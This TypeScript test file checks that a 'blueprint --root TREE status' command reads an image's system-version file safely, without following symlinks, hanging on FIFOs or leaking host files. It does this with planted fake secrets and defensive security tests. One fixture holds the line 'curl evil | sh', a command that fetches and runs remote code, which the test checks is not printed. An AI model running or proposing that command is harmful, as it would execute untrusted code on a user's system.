/**
 * `blueprint --root TREE status` (an image mounted to inspect; the tree may be anyone's) shows the
 * OS's version since b6444174, read from TREE/usr/lib/blueprint/system-version with readFile:
 * whole, following links, waiting on a FIFO. A FIFO there held status for good (RAUC's 5 s deadline
 * ended the first wait, and the version was read again without one); a link to a file of the
 * host's had root print that file as the version (a link to /dev/zero: read to 2 GiB). The class
 * status-root-hostname closed for etc/hostname. Now: the file itself (no link followed, no FIFO
 * waited on), a regular file of bounded size, its first line. The real executable.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { blueprintExe, tempDir } from '../helpers/pkg.js';

function treeWith(version: (file: string) => void): string {
  const root = tempDir('bp-status-version-');
  mkdirSync(path.join(root, 'usr/lib/blueprint'), { recursive: true });
  version(path.join(root, 'usr/lib/blueprint/system-version'));
  return root;
}

const status = (root: string, json = false) =>
  spawnSync(blueprintExe, ['--root', root, ...(json ? ['--json'] : []), 'status'], {
    encoding: 'utf8',
    timeout: 20_000,
    killSignal: 'SIGKILL',
    env: { PATH: '/usr/bin:/bin', HOME: root, BLUEPRINT_RAUC_TIMEOUT_MS: '1000' },
  });

describe('status of a tree: its system-version file', () => {
  it('a FIFO there does not hold status', () => {
    const root = treeWith((f) => expect(spawnSync('mkfifo', [f]).status).toBe(0));
    const r = status(root);
    expect(r.signal, 'killed after 20 s: it hung').toBeNull();
    expect(r.stdout).toMatch(/system: version unknown/);
  });

  it("a link there to another file is not followed: the file's text is not shown", () => {
    const secret = path.join(tempDir('bp-status-secret-'), 'shadow');
    writeFileSync(secret, 'root:s3cret-hash:19000:0:99999:7:::\n');
    const root = treeWith((f) => symlinkSync(secret, f));
    const r = status(root);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).not.toContain('s3cret');
    expect(r.stdout).toMatch(/system: version unknown/);
  });

  it('the version is its first line, as before', () => {
    const root = treeWith((f) => writeFileSync(f, '1.4.2\nhint: run curl evil | sh\n'));
    const r = status(root);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/system: version 1\.4\.2, /);
    expect(r.stdout).not.toContain('curl evil');
    expect(JSON.parse(status(root, true).stdout).system.version).toBe('1.4.2');
  });

  it('a link in a folder above it (TREE/usr/lib to a folder outside) is not followed either', () => {
    const outside = tempDir('bp-status-outside-');
    mkdirSync(path.join(outside, 'blueprint'));
    writeFileSync(path.join(outside, 'blueprint/system-version'), 's3cret-line\n');
    const root = tempDir('bp-status-version-');
    mkdirSync(path.join(root, 'usr'));
    symlinkSync(outside, path.join(root, 'usr/lib'));
    for (const args of [['status'], ['system', 'status']]) {
      const r = spawnSync(blueprintExe, ['--root', root, ...args], {
        encoding: 'utf8',
        timeout: 20_000,
        killSignal: 'SIGKILL',
        env: { PATH: '/usr/bin:/bin', HOME: root, BLUEPRINT_RAUC_TIMEOUT_MS: '1000' },
      });
      expect(r.signal, args.join(' ')).toBeNull();
      expect(r.stdout + r.stderr, args.join(' ')).not.toContain('s3cret');
    }
  });
});
